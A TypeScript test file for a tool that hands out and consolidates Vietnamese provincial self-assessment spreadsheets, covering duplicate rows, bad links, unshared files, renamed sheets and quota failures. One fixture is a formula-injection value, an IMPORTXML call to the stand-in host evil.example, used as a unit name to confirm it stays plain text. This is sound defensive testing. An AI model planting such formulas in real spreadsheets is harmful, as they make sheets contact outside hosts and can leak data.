/**
 * Bad input for the Sở's part: duplicate names, a bad link, a spreadsheet the Sở cannot open,
 * a renamed or replaced scoring sheet, a unit named like a formula, quota errors halfway. Each
 * gives a clear line (status note or failed list) and nothing is lost or overwritten.
 */
import type { UnitResult } from "@cchc/scoring-core";
import {
  beginConsolidation,
  consolidateUnit,
  finishConsolidation,
} from "../../src/server/province/consolidate";
import { handOutTables } from "../../src/server/province/hand-out";
import type { FakeProvince } from "../fakes/drive";
import {
  COL,
  idOnRow,
  leafRows,
  provinceWith,
  specFor,
  typeOneScore,
  unitRows,
  type UnitRow,
} from "./province-fixture";

const FORMULA_NAME = '=IMPORTXML("http://evil.example","//a")';

function badProvince() {
  const units: UnitRow[] = [
    ...unitRows(4), // rows 2–5
    { ...unitRows(1)[0]!, editors: "khac@donvi.vn" }, // row 6: "Sở Số 1" again
    {
      unit: "Sở Sai Link",
      group: "Sở, ban, ngành",
      unitType: "Sở",
      editors: "a@b.vn",
      spreadsheet: "http://example.com/abc",
    }, // row 7
    { unit: "Sở Không Chia Sẻ", group: "Sở, ban, ngành", unitType: "Sở", editors: "c@d.vn" }, // row 8
    { unit: FORMULA_NAME, group: "Sở, ban, ngành", unitType: "Sở", editors: "e@f.vn" }, // row 9
  ];
  const env = provinceWith(units);
  // Row 8 points at a spreadsheet someone else owns and never shared with the Sở.
  const foreign = env.world.addSpreadsheet("Bảng riêng", "nguoikhac@gmail.com");
  foreign._addSheet("Tự đánh giá 2025");
  env.control._sheet("Đơn vị")._cell(7, 4).value = foreign.getUrl();
  return { env, units };
}

function consolidate(env: FakeProvince) {
  const begin = beginConsolidation(env.services, "vi", "c1");
  const results: UnitResult[] = [];
  const failed = [...begin.failed];
  for (const u of begin.units) {
    const r = consolidateUnit(env.services, "vi", begin.jobId, u, begin.criteriaSetId);
    if (r.ok) results.push(r.result);
    else failed.push({ file: `Đơn vị!E${u.row}`, unit: u.unit, error: r.error });
  }
  return finishConsolidation(env.services, "vi", begin.jobId, { results, failed });
}

describe("bad input in the Sở's spreadsheet", () => {
  it("hands out only sound rows; bad rows get a note naming the cell and keep what was typed", () => {
    const { env } = badProvince();
    const r = handOutTables(env.services, "vi", 50);
    expect(r.created.map((c) => c.row)).toEqual([2, 3, 4, 5, 9]);
    expect(r.skipped).toBe(1); // row 8 already has a link
    const sheet = env.control._sheet("Đơn vị");
    expect(r.failed.map((f) => f.row)).toEqual([6, 7]);
    expect(sheet._text("H6")).toMatch(/^Dòng 6 trang “Đơn vị”: .*A6/);
    expect(sheet._text("H7")).toMatch(/E7.*http:\/\/example\.com\/abc/);
    expect(sheet._text("G6")).toBe("Lỗi");
    // What the Sở typed is untouched.
    expect(sheet._text("A6")).toBe("Sở Số 1");
    expect(sheet._text("E7")).toBe("http://example.com/abc");
    expect(sheet._text("A9")).toBe(FORMULA_NAME);
    expect(sheet._peek(8, 0)!.formula).toBe("");
    // The formula-like name stays text inside the unit's new table too.
    const book = env.world.book(idOnRow(env, 9));
    const cells = book._sheet("Tự đánh giá 2025")._cells.flat();
    expect(cells.some((c) => c.formula.includes("IMPORTXML"))).toBe(false);
    expect(cells.some((c) => String(c.value).includes("IMPORTXML"))).toBe(true);
  });

  it("consolidates the rest and lists every other row with its reason — nothing dropped", () => {
    const { env, units } = badProvince();
    handOutTables(env.services, "vi", 50);
    for (const row of [2, 3, 4, 5, 9]) typeOneScore(env, row, units[row - 2]!);
    // Unit on row 3 renamed its sheet: still found (by the tool's metadata) and ranked.
    env.world.book(idOnRow(env, 3))._sheet("Tự đánh giá 2025")._name = "Bảng của chúng tôi";
    // Unit on row 4 copied its table into a new sheet and deleted the tool's one.
    const b4 = env.world.book(idOnRow(env, 4));
    b4._sheets.splice(b4._sheets.indexOf(b4._sheet("Tự đánh giá 2025")), 1);
    b4._addSheet("Bản sao");
    const done = consolidate(env);
    const ranked = done.ranking.groups.flatMap((g) => g.rows.map((r) => r.unit));
    expect(ranked.sort()).toEqual([FORMULA_NAME, "Sở Số 1", "Sở Số 2", "Sở Số 4"].sort());
    const failed = done.ranking.failed;
    expect(failed.map((f) => f.file).sort()).toEqual(["Đơn vị!E4", "Đơn vị!E6", "Đơn vị!E7", "Đơn vị!E8"]);
    const byFile = Object.fromEntries(failed.map((f) => [f.file, f.error]));
    expect(byFile["Đơn vị!E6"]).toMatch(/trùng|A6/);
    expect(byFile["Đơn vị!E7"]).toMatch(/không phải là đường dẫn/);
    expect(byFile["Đơn vị!E8"]).toMatch(/không có quyền mở/);
    expect(byFile["Đơn vị!E4"]).toMatch(
      /Không tìm thấy bảng chấm điểm trong tệp \(đã xem các trang “Bản sao”\)/,
    );
    expect(ranked.length + failed.length).toBe(units.length);
    // The failed sheet lists them; the formula-like name is text in the ranking sheet.
    const failedSheet = env.control._sheet(done.sheets.at(-1)!);
    expect(failedSheet._cells.flat().filter((c) => /^Đơn vị!E\d$/.test(String(c.value)))).toHaveLength(4);
    const rankingSheet = env.control._sheet(done.sheets[0]!);
    const nameCell = rankingSheet._cells.flat().find((c) => String(c.value).includes("IMPORTXML"))!;
    expect(nameCell.formula).toBe("");
  });

  it("a quota error halfway through handing out stops cleanly; the re-run finishes without duplicates", () => {
    const env = provinceWith(unitRows(5));
    env.log.failOn(
      /^SpreadsheetApp\.create$/,
      "Exception: Service invoked too many times for one day: spreadsheet create.",
      2,
    );
    const first = handOutTables(env.services, "vi", 50);
    expect(first.created).toHaveLength(2);
    expect(first.failed).toHaveLength(1);
    expect(first.failed[0]!.reason).toMatch(/too many times/);
    expect(first.remaining).toBeGreaterThan(0);
    expect(env.control._sheet("Đơn vị")._text("G4")).toBe("Lỗi");
    const second = handOutTables(env.services, "vi", 50);
    expect(second.created.map((c) => c.row)).toEqual([4, 5, 6]);
    expect(second.skipped).toBe(2);
    expect(env.world.files.size).toBe(1 + 5); // the control spreadsheet + one per unit
  });

  it("a failure while building a table bins the half-built file and notes the row", () => {
    const env = provinceWith(unitRows(2));
    env.log.failOn(
      /^Protection\.addEditors$/,
      "Exception: Service Spreadsheets failed while accessing document.",
      3,
    );
    const r = handOutTables(env.services, "vi", 50);
    expect(r.failed).toHaveLength(1);
    const trashed = [...env.world.files.values()].filter((f) => f.trashed);
    expect(trashed).toHaveLength(1);
    const again = handOutTables(env.services, "vi", 50);
    expect(again.created).toHaveLength(1);
    const live = [...env.world.files.values()].filter((f) => !f.trashed);
    expect(live).toHaveLength(3);
  });

  it("a scoring sheet with text in a score cell is ranked with its error count, not dropped", () => {
    const env = provinceWith(unitRows(1));
    handOutTables(env.services, "vi", 50);
    const id = idOnRow(env, 2);
    const leaf = leafRows(specFor(unitRows(1)[0]!))[0]!;
    env.app.proxy
      .openById(id)
      .getSheetByName("Tự đánh giá 2025")!
      .getRange(leaf.row, COL.self)
      .setValues([["đạt"]]);
    const done = consolidate(env);
    const row = done.ranking.groups[0]!.rows[0]!;
    expect(row.errors).toBeGreaterThan(0);
  });
});
